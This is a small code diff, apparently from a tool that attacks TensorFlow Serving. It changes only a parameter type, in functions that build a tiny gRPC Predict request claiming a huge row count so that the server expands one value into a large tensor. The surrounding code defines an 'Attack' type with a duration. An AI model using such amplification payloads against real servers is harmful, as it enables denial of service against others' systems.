@@ -21,7 +21,7 @@ export type Attack = (target: Target, seconds: number, signal: AbortSignal) => P
 export const PREDICT_PATH = '/tensorflow.serving.PredictionService/Predict';
 
 /** A Predict of so many rows in about 40 bytes: one value, which the server repeats. */
-export function predictMessage({ model, rowShape }: Target, rows: number): Buffer {
+export function predictMessage({ model, rowShape }: Pick<Target, 'model' | 'rowShape'>, rows: number): Buffer {
   const value = Buffer.alloc(4);
   value.writeFloatLE(1);
   const tensor = [varintField(1, 1), bytesField(2, shape(rows, ...rowShape)), bytesField(5, value)];
@@ -30,6 +30,6 @@ export function predictMessage({ model, rowShape }: Target, rows: number): Buffe
 }
 
 /** The same with its gRPC prefix. */
-export function predictFrame(target: Target, rows: number): Buffer {
+export function predictFrame(target: Pick<Target, 'model' | 'rowShape'>, rows: number): Buffer {
   return frame(predictMessage(target, rows));
 }
